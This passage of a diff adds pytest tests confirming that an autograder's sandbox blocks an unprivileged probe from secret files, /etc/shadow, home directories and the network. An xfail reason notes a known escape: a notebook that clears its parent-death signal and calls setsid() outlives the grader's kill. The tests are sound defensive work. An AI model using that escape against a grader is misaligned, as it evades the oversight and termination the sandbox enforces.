+        subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name],
+                       check=True)
+        created = True
+    user = pwd.getpwnam(name)
+    # Not under pytest's temporary folder: that one is mode 700, closed to the user.
+    folder = Path(tempfile.mkdtemp(prefix="autograder-unprivileged-"))
+    os.chmod(folder, 0o755)
+    shutil.copy(REPO / "autograder" / "runner" / "sandbox.py", folder / "sandbox.py")
+    (folder / "probe.py").write_text(_UNPRIVILEGED_PROBE)
+    for path in [folder, *folder.rglob("*")]:
+        os.chown(path, user.pw_uid, user.pw_gid)
+    try:
+        done = subprocess.run([str(python), "-I", "-S", str(folder / "probe.py")],
+                              user=user.pw_uid, group=user.pw_gid, extra_groups=[],
+                              cwd=folder, env={"PATH": "/usr/bin:/bin", "HOME": str(folder),
+                                               "LANG": "C.UTF-8"},
+                              capture_output=True, text=True, timeout=120)
+    finally:
+        if created:
+            subprocess.run(["userdel", name], check=False)
+        shutil.rmtree(folder, ignore_errors=True)
+    assert done.returncode == 0, done.stderr[-3000:]
+    return json.loads(done.stdout.strip().splitlines()[-1])
+
+
+def test_unprivileged_sandbox_confines(unprivileged):
+    assert unprivileged["user"] != 0
+    assert unprivileged["available"] is None, unprivileged["available"]
+    inside = unprivileged["inside"]
+    assert inside["uid"] == 1000, inside
+    assert set(inside["pids"]) <= {1, 2}, inside  # its own namespace: itself (and an init)
+    assert inside["secret"] == "No such file or directory", inside
+    assert inside["passwd-shadow"] == "No such file or directory", inside
+    assert inside["home"] == "No such file or directory", inside
+    assert inside["network"] == "Network is unreachable", inside
+    assert unprivileged["accepted"] is False
+
+
+@pytest.mark.xfail(strict=True, reason="issue 11: without a cgroup (an unprivileged grader) a "
+                                       "notebook that clears its parent-death signal and calls "
+                                       "setsid() outlives the grader's kill, with its daemons")
+def test_unprivileged_sandbox_leaves_no_process(unprivileged):
+    assert unprivileged["left"] == [], unprivileged["left"]
